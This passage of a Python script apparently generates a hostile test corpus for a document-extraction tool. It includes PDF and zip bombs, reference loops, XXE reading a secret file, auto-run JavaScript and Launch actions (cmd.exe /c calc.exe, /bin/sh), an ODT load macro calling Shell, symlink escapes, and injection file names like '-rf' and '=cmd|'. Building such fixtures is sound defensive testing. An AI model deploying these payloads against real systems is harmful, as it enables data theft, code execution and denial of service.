        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    header, inner = b"6 0 ", b"123"
    offsets[7] = len(out)
    out += (b"7 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length 6 0 R >>\nstream\n" % len(header)
            + header + inner + b"\nendstream\nendobj\n")
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 1, offsets[i], 0) for i in range(1, 6)]
    rows += [struct.pack(">BIH", 2, 7, 0), struct.pack(">BIH", 1, offsets[7], 0), struct.pack(">BIH", 1, xref_at, 0)]
    data = b"".join(rows)
    out += (b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
            + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    path.write_bytes(bytes(out))


def pdf_prev_loop(path: Path, ctx: Ctx) -> None:
    """The trailer's /Prev points at its own xref table."""
    data = raw_pdf(pdf_objs())
    at = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    data = data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)
    path.write_bytes(data)


def pdf_kids_cycle(path: Path, ctx: Ctx) -> None:
    objs = pdf_objs(kids=b"[3 0 R 6 0 R 2 0 R]", count=b"3",
                    extra={6: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R 3 0 R] /Count 2 >>"})
    path.write_bytes(raw_pdf(objs))


def pdf_parent_cycle(path: Path, ctx: Ctx) -> None:
    objs = pdf_objs(extra={6: b"<< /Type /Pages /Parent 7 0 R /Kids [] /Count 0 >>",
                           7: b"<< /Type /Pages /Parent 6 0 R /Kids [] /Count 0 >>"})
    objs[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 6 0 R >>"
    objs[3] = objs[3].replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>"
    objs[8] = b"<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>"
    objs[9] = b"<< /Title (loop) /Parent 8 0 R /Next 9 0 R /Prev 9 0 R /First 9 0 R /Dest [3 0 R /Fit] >>"
    path.write_bytes(raw_pdf(objs))


def pdf_page_dag(path: Path, ctx: Ctx) -> None:
    """A page tree that fans out 2^40 times over 40 objects (each level lists its child twice)."""
    objs = pdf_objs(kids=b"[10 0 R 10 0 R]", count=b"1099511627776")
    for level in range(40):
        num = 10 + level
        child = b"%d 0 R" % (num + 1) if level < 39 else b"3 0 R"
        objs[num] = b"<< /Type /Pages /Parent 2 0 R /Kids [" + child + b" " + child + b"] /Count 1 >>"
    path.write_bytes(raw_pdf(objs))


def pdf_xobject_recursion(path: Path, ctx: Ctx) -> None:
    """A form XObject that draws itself, and two that draw each other."""
    content = HELLO + b" /X1 Do /X2 Do"
    objs = pdf_objs(content, page=b"", extra={
        6: stream(b"/X1 Do 0 0 m 10 10 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] "
                  b"/Resources << /XObject << /X1 6 0 R >> >>"),
        7: stream(b"/X3 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] "
                  b"/Resources << /XObject << /X3 8 0 R >> >>"),
        8: stream(b"/X2 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] "
                  b"/Resources << /XObject << /X2 7 0 R >> >>"),
    })
    objs[3] = objs[3].replace(b"/Font << /F1 5 0 R >>", b"/Font << /F1 5 0 R >> /XObject << /X1 6 0 R /X2 7 0 R >>")
    path.write_bytes(raw_pdf(objs))


def pdf_flate_bomb(gib: int) -> Callable[[Path, Ctx], None]:
    """A content stream deflated twice: ~KBs on disk, ``gib`` GiB inflated."""

    def build(path: Path, ctx: Ctx) -> None:
        inner = zlib_zeros(gib << 10)
        outer = zlib.compress(inner, 9)
        objs = pdf_objs()
        objs[4] = stream(outer, b"/Filter [/FlateDecode /FlateDecode]")
        path.write_bytes(raw_pdf(objs))

    return build


def pdf_image_bomb(path: Path, ctx: Ctx) -> None:
    """No text, one full-page image of 60,000 x 60,000 grey pixels (3.4 GB) deflated twice."""
    inner = zlib_zeros(3434)
    outer = zlib.compress(inner, 9)
    content = b"q 612 0 0 792 0 0 cm /Im1 Do Q"
    objs = pdf_objs(content, extra={
        6: stream(outer, b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
                  b"/BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]"),
    })
    objs[3] = objs[3].replace(b"/Font << /F1 5 0 R >>", b"/Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >>")
    path.write_bytes(raw_pdf(objs))


def pdf_operator_flood(path: Path, ctx: Ctx) -> None:
    """5 million drawing operators in a 100 KB stream."""
    ops = b"0 0 m 1 1 l S\n" * 5_000_000
    objs = pdf_objs(HELLO + b"\n" + ops)
    objs[4] = stream(zlib.compress(HELLO + b"\n" + ops, 9), b"/Filter /FlateDecode")
    path.write_bytes(raw_pdf(objs))


def pdf_deep_arrays(path: Path, ctx: Ctx) -> None:
    n = 200_000
    objs = pdf_objs(extra={6: b"[" * n + b"1" + b"]" * n, 7: b"<<" + b"/A <<" * n + b">>" * n + b">>"})
    objs[3] = objs[3].replace(b"/Parent 2 0 R", b"/Parent 2 0 R /Deep 6 0 R /Deeper 7 0 R")
    path.write_bytes(raw_pdf(objs))


def pdf_actions(ctx: Ctx) -> dict[int, bytes]:
    return {
        6: b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\); this.submitForm\\('%s/js-submit'\\);) /Next 7 0 R >>"
        % (ctx.url.encode(), ctx.url.encode()),
        7: b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> "
        b"/Unix << /F (/usr/bin/touch) /P (/tmp/esep-hostile-launched) >> /Next 8 0 R >>",
        8: b"<< /S /URI /URI (%s/openaction-uri) /Next 9 0 R >>" % ctx.url.encode(),
        9: b"<< /S /SubmitForm /F << /FS /URL /F (%s/submit) >> /Flags 4 /Next 10 0 R >>" % ctx.url.encode(),
        10: b"<< /S /ImportData /F << /FS /URL /F (%s/import.fdf) >> /Next 11 0 R >>" % ctx.url.encode(),
        11: b"<< /S /GoToR /F << /FS /URL /F (%s/remote.pdf) >> /D [0 /Fit] >>" % ctx.url.encode(),
    }


def pdf_small_scan(path: Path, ctx: Ctx) -> None:
    """A page that is only an image (ruled lines, no text layer): read by OCR."""
    w, h = 850, 1100
    img = bytearray(b"\xff" * (w * h))
    for y in list(range(100, 1001, 100)):
        for dy in range(3):
            img[(y + dy) * w + 100:(y + dy) * w + 750] = b"\x00" * 650
    for x in (100, 400, 750):
        for y in range(100, 1003):
            img[y * w + x:y * w + x + 3] = b"\x00\x00\x00"
    content = b"q 612 0 0 792 0 0 cm /Im1 Do Q"
    objs = pdf_objs(content, extra={
        6: stream(zlib.compress(bytes(img), 9), b"/Type /XObject /Subtype /Image /Width 850 /Height 1100 "
                  b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"),
    })
    objs[3] = objs[3].replace(b"/Font << /F1 5 0 R >>", b"/Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >>")
    path.write_bytes(raw_pdf(objs))


def pdf_with_actions(path: Path, ctx: Ctx) -> None:
    acts = pdf_actions(ctx)
    annot = (b"<< /Type /Annot /Subtype /Link /Rect [72 690 400 730] /Border [0 0 0] "
             b"/A << /S /URI /URI (%s/link-uri) >> >>" % ctx.url.encode())
    launch_annot = b"<< /Type /Annot /Subtype /Link /Rect [72 600 400 640] /A 7 0 R >>"
    objs = pdf_objs(
        HELLO + b" BT /F1 12 Tf 72 620 Td (Launch here) Tj ET",
        catalog=b"/OpenAction 6 0 R /AA << /WC 8 0 R /WS 9 0 R >> "
                b"/Names << /JavaScript << /Names [(doc) 6 0 R] >> >> /AcroForm << /Fields [] /XFA 13 0 R >>",
        page=b"/Annots [12 0 R 14 0 R] /AA << /O 6 0 R /C 7 0 R >>",
        extra={**acts, 12: annot, 13: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>"
                                             b"<!DOCTYPE x [<!ENTITY e SYSTEM '" + ctx.secret_url.encode()
                                             + b"'>]>&e;</xdp:xdp>"), 14: launch_annot},
    )
    path.write_bytes(raw_pdf(objs))


ATTACHMENT_TOKEN = "ATTACHED-FILE-CONTENT-7f3a9c"


def pdf_attachment(path: Path, ctx: Ctx) -> None:
    payload = (f"{ATTACHMENT_TOKEN} <script>fetch('{ctx.url}/attachment')</script>").encode()
    objs = pdf_objs(
        catalog=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /OpenAction 8 0 R",
        page=b"/Annots [9 0 R]",
        extra={
            6: b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>",
            7: stream(payload, b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream"),
            8: b"<< /S /Launch /F 6 0 R /NewWindow true >>",
            9: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 100 530] /FS 6 0 R /Contents (open me) >>",
        },
    )
    path.write_bytes(raw_pdf(objs))


def pdf_mediabox(box: bytes, content: bytes = HELLO) -> Callable[[Path, Ctx], None]:
    return pdf_kind(content=content, mediabox=box)


def pdf_encrypted(user: str, owner: str) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        from reportlab.lib.pdfencrypt import StandardEncryption
        from reportlab.pdfgen import canvas

        enc = StandardEncryption(user, owner, canPrint=0, canModify=0, canCopy=0, canAnnotate=0)
        c = canvas.Canvas(str(path), encrypt=enc)
        c.setFont("Helvetica", 14)
        c.drawString(72, 720, "Encrypted report text")
        c.save()

    return build


# --------------------------------------------------- files for LibreOffice


def rtf_fields(path: Path, ctx: Ctx) -> None:
    secret = ctx.secret_url
    path.write_text(
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\n"
        "\\pard Hostile RTF report text\\par\n"
        f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{ctx.url}/rtf.png" \\\\d}}{{\\fldrslt picture}}}}\\par\n'
        f'{{\\field{{\\*\\fldinst INCLUDETEXT "{secret}"}}{{\\fldrslt cached}}}}\\par\n'
        f'{{\\field{{\\*\\fldinst HYPERLINK "{ctx.url}/rtf-link"}}{{\\fldrslt link}}}}\\par\n'
        f"{{\\object\\objautlink{{\\*\\objclass Word.Document.8}}{{\\*\\objdata 0105}}{{\\*\\linkself}}"
        f"{{\\result linked}}}}\\par\n"
        "}\n",
        encoding="ascii",
    )


def odt_hostile(path: Path, ctx: Ctx) -> None:
    """An ODT with a linked image, a section linked to a local file, a linked
    OLE object and a macro bound to the load event."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
        "<office:scripts><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts>"
        "<office:body><office:text>"
        "<text:p>Hostile ODT report text</text:p>"
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        f'<draw:image xlink:href="{ctx.url}/odt.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
        '<text:section text:name="linked">'
        f'<text:section-source xlink:href="{ctx.secret_url}" xlink:type="simple" text:filter-name="Text"/>'
        "<text:p>section cached</text:p></text:section>"
        '<text:section text:name="linked2">'
        f'<text:section-source xlink:href="{ctx.url}/section.odt" xlink:type="simple"/>'
        "<text:p>section2 cached</text:p></text:section>"
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    marker = "/tmp/esep-hostile-macro-ran"
    basic = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
        f'Sub Main\n Open "{marker}" For Output As #1\n Print #1, "ran"\n Close #1\n'
        f' Shell("/usr/bin/touch {marker}-shell")\nEnd Sub\n'
        "</script:module>"
    )
    write_zip(path, [
        entry("mimetype", "application/vnd.oasis.opendocument.text", method=0),
        entry("content.xml", content),
        entry("META-INF/manifest.xml", manifest),
        entry("Basic/Standard/Module1.xml", basic),
    ])


def odt_bomb_lying(path: Path, ctx: Ctx) -> None:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
               "<text:p>bomb</text:p></office:text></office:body></office:document-content>")
    write_zip(path, [
        entry("mimetype", "application/vnd.oasis.opendocument.text", method=0),
        ZipEntry("content.xml", deflate_zeros(300), zlib.crc32(content.encode()), 20_000),
    ])


def html_named_doc(path: Path, ctx: Ctx) -> None:
    path.write_text(f'<html><head><link rel="stylesheet" href="{ctx.url}/style.css"></head>'
                    f'<body><img src="{ctx.url}/img.png"><p>HTML named .doc</p></body></html>')


def rtf_report(text: str) -> Callable[[Path, Ctx], None]:
    def build(path: Path, ctx: Ctx) -> None:
        path.write_text("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\pard " + text + "\\par}\n", encoding="ascii")

    return build


# ------------------------------------------------------------------ odd files (issue 13)


def ole_garbage_doc(path: Path, ctx: Ctx) -> None:
    """The OLE2 magic followed by garbage: LibreOffice would 'convert' it."""
    import random

    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + random.Random(7).randbytes(30_000))


def ole_bad_fib_doc(path: Path, ctx: Ctx) -> None:
    """A well-formed compound file whose WordDocument stream has no File Information Block."""
    from tests.ole_factory import write_ole

    write_ole(path, {"WordDocument": bytes(4096), "1Table": b"\0" * 4096})


_STRICT_NS = {
    W_NS: "http://purl.oclc.org/ooxml/wordprocessingml/main",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        "http://purl.oclc.org/ooxml/officeDocument/relationships",
}


def strict_docx(path: Path, ctx: Ctx) -> None:
    """A DOCX in the ISO 29500 Strict format (the namespaces Word's "Strict Open XML" writes)."""
    parts = {}
    for name, data in docx_parts(p("Strict OOXML report text")).items():
        if isinstance(data, str):
            for old, new in _STRICT_NS.items():
                data = data.replace(old, new)
        parts[name] = data
    save_docx(path, parts)


def png_pixel_bomb(path: Path, ctx: Ctx) -> None:
    """A PNG that declares 60,000 x 60,000 pixels in a few hundred bytes."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(bytes(60_001) * 4))
                     + chunk(b"IEND", b""))


def tiff_page_flood(path: Path, ctx: Ctx) -> None:
    """A TIFF of 500 one-pixel pages: the OCR of each would take seconds."""
    from PIL import Image

    frames = [Image.new("1", (1, 1), 1) for _ in range(500)]
    frames[0].save(path, save_all=True, append_images=frames[1:], compression="group4")


def jpeg_truncated(path: Path, ctx: Ctx) -> None:
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (800, 1100), 200).save(buf, "JPEG")
    path.write_bytes(buf.getvalue()[:400])


# ------------------------------------------------------------------ kinds

LONG_NAME = "а" * 125 + ".docx"  # 255 bytes in UTF-8
assert len(LONG_NAME.encode()) == 255

DTD = r"declares a DTD \(<!DOCTYPE>\), which Word never writes"
TIME = r"time limit \d+ s exceeded$"
# Either limit of the guard: on a starved CPU the clock may run out before the memory does.
GUARD = r"memory limit 1 GB exceeded$|time limit \d+ s exceeded$"

KINDS: list[Kind] = [
    # --- ZIP containers
    Kind("zip_bomb_declared", "zip_bomb_declared.docx", zip_bomb_declared(2200), "error",
         r"ZIP entry 'word/media/image1.png' would inflate to 2,200 MB \(limit 256 MB\)"),
    Kind("zip_bomb_lying", "zip_bomb_lying.docx", zip_bomb_lying, "error",
         r"ZIP entry 'word/document.xml' inflates to more than the 20,000 bytes it declares"),
    Kind("zip_bomb_local_header", "zip_bomb_local_header.docx", zip_bomb_local_header, "error",
         r"would inflate to 300 MB"),
    Kind("zip_many_small_bombs", "zip_many_small_bombs.docx", zip_many_small_bombs, "error",
         r"ZIP would inflate to over 1,024 MB in total"),
    Kind("zip_bombs_under_total", "zip_bombs_under_total.docx", zip_bombs_under_total, "limit",
         GUARD, notes="1,008 MB of parts python-docx holds at once: the memory limit ends it",
         extract_timeout=90),
    Kind("zip_many_entries", "zip_many_entries.docx", zip_many_entries, "error", r"ZIP holds 20,008 entries"),
    Kind("zip_encrypted_entry", "zip_encrypted_entry.docx", zip_encrypted_entry, "error",
         r"password-protected \(encrypted ZIP entry\)"),
    Kind("zip_path_traversal", "zip_path_traversal.docx", zip_path_traversal, "read", text="path traversal"),
    Kind("docm_as_docx", "docm_as_docx.docx", docm_docx, "error", r"not a Word document .*macroEnabled"),
    Kind("xml_part_bomb", "xml_part_bomb.docx", huge_text_node_docx, "error", r"compression ratio of 1,019:1"),
    # --- XML: entities, DTDs, XInclude in every part python-docx parses
    *[Kind(f"xxe_{part}", f"xxe_{part}.docx", xxe_docx(part), "error", DTD) for part in _ENTITY_SPOTS],
    *[Kind(f"billion_laughs_{part}", f"billion_laughs_{part}.docx", lol_docx(part), "error", DTD)
      for part in ("document", "styles", "core", "content_types")],
    Kind("quadratic_blowup", "quadratic_blowup.docx", quadratic_blowup_docx, "error", DTD),
    Kind("utf16_doctype", "utf16_doctype.docx", utf16_doctype_docx, "error", DTD),
    Kind("xinclude", "xinclude.docx", xinclude_docx, "read", text="XInclude test"),
    # --- relationships Word would follow
    *[Kind(f"external_{k}", f"external_{k}.docx", external_rels_docx(k), "read", text=f"External {k} test")
      for k in ("template", "image", "altchunk", "subdoc", "oleobject", "fields", "hyperlinks", "frameset")],
    Kind("external_traversal", "external_traversal.docx", external_rels_docx("traversal"), "error",
         r"damaged Word document \(KeyError: .There is no item named .* in the archive"),
    # --- absurd structures
    Kind("grid_span_2e9", "grid_span_2e9.docx", grid_span_docx, "read", text="gridSpan test"),
    Kind("nested_tables_300", "nested_tables_300.docx", nested_tables_docx(300), "error",
         r"XML nested deeper than 256 levels"),
    Kind("nested_tables_60", "nested_tables_60.docx", nested_tables_docx(60), "read", text="level 59"),
    Kind("deep_xml", "deep_xml.docx", deep_xml_docx, "error", r"XML nested deeper than 256 levels"),
    Kind("style_cycle", "style_cycle.docx", style_cycle_docx, "read", text="cycle L0"),
    Kind("vmerge_5000", "vmerge_5000.docx", vmerge_docx(5000), "read", text="a4999"),
    Kind("many_paragraphs", "many_paragraphs.docx", many_paragraphs_docx(100_000), "read", text="Paragraph 99999"),
    Kind("wide_row", "wide_row.docx", wide_row_docx, "read", text="wide row"),
    # --- PDF
    Kind("pdf_length_self", "pdf_length_self.pdf", pdf_length_self, "error", r"damaged PDF \(RecursionError"),
    Kind("pdf_length_mutual", "pdf_length_mutual.pdf", pdf_length_mutual, "error",
         r"damaged PDF \(.*object reference cycle \(6 0 R -> 7 0 R -> 6 0 R\)\)$", extract_timeout=5,
         notes="pdfminer alone resolves 6 0 R -> 7 0 R -> 6 0 R ... forever; extract/pdf_refs.py ends it"),
    Kind("pdf_objstm_length_loop", "pdf_objstm_length_loop.pdf", pdf_objstm_length_loop, "error",
         r"damaged PDF \(RecursionError"),
    Kind("pdf_prev_loop", "pdf_prev_loop.pdf", pdf_prev_loop, "error", r"damaged PDF \(RecursionError"),
    Kind("pdf_kids_cycle", "pdf_kids_cycle.pdf", pdf_kids_cycle, "read", text="Hello hostile world"),
    Kind("pdf_parent_cycle", "pdf_parent_cycle.pdf", pdf_parent_cycle, "read", text="Hello hostile world"),
    Kind("pdf_page_dag", "pdf_page_dag.pdf", pdf_page_dag, "read", text="Hello hostile world"),
    Kind("pdf_count_1e9", "pdf_count_1e9.pdf", pdf_kind(count=b"1000000000"), "read", text="Hello hostile world"),
    Kind("pdf_mediabox_1e9", "pdf_mediabox_1e9.pdf", pdf_mediabox(b"[0 0 1000000000 1000000000]"), "read",
         text="Hello hostile world"),
    Kind("pdf_mediabox_1e9_blank", "pdf_mediabox_1e9_blank.pdf",
         pdf_mediabox(b"[0 0 1000000000 1000000000]", b"0 0 m 1000 1000 l S"), "read"),
    Kind("pdf_mediabox_nan", "pdf_mediabox_nan.pdf", pdf_mediabox(b"[0 0 -1e400 (x)]"), "error",
         r"damaged PDF \(MalformedPDFException: Bounding box"),
    Kind("pdf_xobject_recursion", "pdf_xobject_recursion.pdf", pdf_xobject_recursion, "read",
         text="Hello hostile world"),
    Kind("pdf_flate_bomb", "pdf_flate_bomb.pdf", pdf_flate_bomb(4), "limit", GUARD,
         extract_timeout=90, notes="zlib fails to allocate inside pdfminer: the memory limit, not a damaged page"),
    Kind("pdf_image_bomb", "pdf_image_bomb.pdf", pdf_image_bomb, "read", needs_tesseract=True, text="read by OCR",
         notes="pdfium renders the 60,000 x 60,000 image scaled to at most 40 Mpixel"),
    Kind("pdf_operator_flood", "pdf_operator_flood.pdf", pdf_operator_flood, "limit", TIME, extract_timeout=5),
    Kind("pdf_deep_arrays", "pdf_deep_arrays.pdf", pdf_deep_arrays, "read", text="Hello hostile world"),
    Kind("pdf_actions", "pdf_actions.pdf", pdf_with_actions, "read", text="Launch here"),
    Kind("pdf_attachment", "pdf_attachment.pdf", pdf_attachment, "read", text="Hello hostile world"),
    Kind("pdf_encrypted_user", "pdf_encrypted_user.pdf", pdf_encrypted("user-secret", "owner"), "error",
         r"PDF is encrypted with a password"),
    Kind("pdf_encrypted_owner_only", "pdf_encrypted_owner_only.pdf", pdf_encrypted("", "owner-secret"), "read",
         text="Encrypted report text"),
    # --- what goes to LibreOffice
    Kind("rtf_fields", "rtf_fields.rtf", rtf_fields, "read", needs_soffice=True, text="Hostile RTF report text"),
    Kind("odt_hostile", "odt_hostile.odt", odt_hostile, "read", needs_soffice=True, text="Hostile ODT report text"),
    Kind("odt_bomb_lying", "odt_bomb_lying.odt", odt_bomb_lying, "error",
         r"ZIP entry 'content.xml' inflates to more than the 20,000 bytes it declares"),
    Kind("html_named_doc", "html_named_doc.doc", html_named_doc, "error", r"HTML page, not a document esep reads"),
    # --- odd files (issue 13)
    Kind("ole_garbage_doc", "ole_garbage.doc", ole_garbage_doc, "error",
         r"damaged Word document \(not a readable OLE2 container\)$"),
    Kind("ole_bad_fib_doc", "ole_bad_fib.doc", ole_bad_fib_doc, "error",
         r"damaged Word document \(WordDocument stream has no valid header\)$"),
    Kind("strict_docx", "strict_ooxml.docx", strict_docx, "read", needs_soffice=True, text="Strict OOXML report text"),
    Kind("png_pixel_bomb", "pixel_bomb.png", png_pixel_bomb, "error", r"image is larger than [\d,]+ pixels$"),
    Kind("tiff_page_flood", "page_flood.tif", tiff_page_flood, "error", r"TIFF image has 500 pages \(limit \d+\)$"),
    Kind("jpeg_truncated", "truncated.jpg", jpeg_truncated, "error", r"damaged (JPEG )?image"),
    Kind("dash_rf_doc", "-rf.doc", rtf_report("Dash named RTF"), "read", needs_soffice=True, text="Dash named RTF"),
    Kind("dash_rf_scan", "-rf scan.pdf", pdf_small_scan, "read", needs_tesseract=True, text="read by OCR"),
    # --- names
    Kind("dash_rf", "-rf.docx", simple_docx("dash name"), "read", text="dash name"),
    Kind("name_spaces_cyrillic", "отчёт НПО за 2024 год.docx", simple_docx("cyrillic name"), "read",
         text="cyrillic name"),
    Kind("name_newline", "two\nlines.docx", simple_docx("newline name"), "read", text="newline name"),
    Kind("name_escape", "esc\x1b[31mred\x1b[0m.docx", simple_docx("escape name"), "read", text="escape name"),
    Kind("name_invalid_utf8", b"bad-\xff\xfe-\xc0.docx", simple_docx("invalid utf8 name"), "read",
         text="invalid utf8 name"),
    Kind("name_255_bytes", LONG_NAME, simple_docx("long name"), "read", text="long name"),
    Kind("name_formula", "=cmd|' -c calc'!A0.docx", simple_docx("formula name"), "read", text="formula name"),
    Kind("name_broken_escape", "broken\n\x1b[2J\x07.pdf", lambda path, ctx: path.write_bytes(b"%PDF-1.4\ngarbage"),
         "error", r"damaged PDF"),
    # --- output: cells Excel would run as formulas
    Kind("excel_formulas", "excel_formulas.docx", excel_formulas_docx, "read", text="+7 701 223 2025"),
]

KINDS_BY_NAME = {k.name: k for k in KINDS}


def build_corpus(root: Path, ctx: Ctx, kinds: list[Kind] | None = None) -> list[Kind]:
    """Write ``kinds`` (default: all) into ``root``; return them."""
    root.mkdir(parents=True, exist_ok=True)
    out = []
    for kind in kinds if kinds is not None else KINDS:
        kind.build(kind.path(root), ctx)
        out.append(kind)
    return out


# --------------------------------------------------------- the folder tree


@dataclass
class Tree:
    """What ``build_tree`` made: special entries a walk must pass over."""

    specials: dict[str, Path] = field(default_factory=dict)
    skipped: list[str] = field(default_factory=list)  # sub-cases this system does not allow


def build_tree(root: Path, outside: Path, ctx: Ctx) -> Tree:
    """Links, loops and special files inside ``root``; ``outside`` holds the
    files the links point to (one is a readable report carrying the secret)."""
    tree = Tree()
    outside.mkdir(parents=True, exist_ok=True)
    secret_text = ctx.secret.read_text() if ctx.secret.exists() else "no secret"
    target = outside / "outside.docx"
    save_docx(target, docx_parts(p("Outside the root: " + secret_text)))
    root.mkdir(parents=True, exist_ok=True)

    def special(name: str, make: Callable[[Path], None]) -> None:
        path = root / name
        try:
            make(path)
        except (OSError, NotImplementedError) as exc:
            tree.skipped.append(f"{name}: {exc}")
            return
        tree.specials[name] = path

    special("link-to-outside.docx", lambda p_: p_.symlink_to(target))
    special("link-to-secret.docx", lambda p_: p_.symlink_to(ctx.secret))
    special("link-dir-outside", lambda p_: p_.symlink_to(outside, target_is_directory=True))
    special("link-dir-root", lambda p_: p_.symlink_to("..", target_is_directory=True))

    def loop(p_: Path) -> None:
        p_.mkdir()
        (p_ / "a.docx").symlink_to("b.docx")
        (p_ / "b.docx").symlink_to("a.docx")
        (p_ / "self").symlink_to(".", target_is_directory=True)
        (p_ / "up").symlink_to("../loop", target_is_directory=True)

    special("loop", loop)
    special("fifo.docx", lambda p_: os.mkfifo(p_))

    def unix_socket(p_: Path) -> None:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.bind(str(p_))
        finally:
            s.close()

    special("socket.docx", unix_socket)
    special("device.docx", lambda p_: os.mknod(p_, stat.S_IFCHR | 0o600, os.makedev(1, 3)))  # /dev/null
    special("device-zero.pdf", lambda p_: os.mknod(p_, stat.S_IFCHR | 0o600, os.makedev(1, 5)))  # /dev/zero
    return tree


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--port", type=int, default=9, help="port the files point at (default 9: discard)")
    ap.add_argument("--secret", type=Path, default=None, help="file the XXE kinds try to read")
    ap.add_argument("--tree", action="store_true", help="also add links, loops, a FIFO, a socket and devices")
    ap.add_argument("--only", nargs="*", help="kind names to build")
    args = ap.parse_args(argv)
    secret = args.secret or (args.out / "secret.txt")
    if args.secret is None:
        args.out.mkdir(parents=True, exist_ok=True)
        secret.write_text("SECRET-TOKEN-" + os.urandom(8).hex())
    ctx = Ctx(args.port, secret)
    kinds = [KINDS_BY_NAME[n] for n in args.only] if args.only else None
    corpus = args.out / "corpus"
    for kind in build_corpus(corpus, ctx, kinds):
        print(f"{kind.name}\t{kind.expect}\t{os.fsencode(kind.path(corpus))!r}")
    if args.tree:
        tree = build_tree(corpus, args.out / "outside", ctx)
        for name in tree.specials:
            print(f"special\t{name}")
        for why in tree.skipped:
            print(f"skipped\t{why}")


if __name__ == "__main__":
    main()


def document_json(path: str) -> str:
    """The reader's whole document model of ``path`` as JSON (for tests: every
    text the reader saw, not only what normalisation keeps)."""
    import json

    from esep.extract import read

    return json.dumps(read(path).to_dict(), ensure_ascii=False)
